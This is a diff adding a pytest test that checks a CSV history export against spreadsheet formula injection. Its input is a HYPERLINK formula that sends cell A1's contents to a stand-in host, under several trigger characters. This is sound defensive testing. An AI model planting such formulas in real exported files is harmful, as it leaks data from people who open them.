@@ -202,6 +202,17 @@ def test_history_csv_follows_codecarbons_columns(client):
     ]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_history_csv_cells_cannot_become_spreadsheet_formulas(client, start):
+    client.get("/")
+    code = f'{start}HYPERLINK("https://example.org/?x="&A1,"open")\nprint(1)'
+    finished_run(session_key=client.session.session_key, code=code)
+    text = b"".join(client.get("/runs.csv").streaming_content).decode()
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["code"] == "'" + code  # read back as text, not run as a formula
+    assert float(row["energy_consumed"]) > 0  # numbers stay numbers
+
+
 def test_run_page_shows_baseline_equivalents_and_other_grids(client):
     run = finished_run(
         energy_kwh=1.08e-6, emissions_g=7.7e-4, baseline_energy_kwh=3e-8, baseline_cpu_seconds=0.027
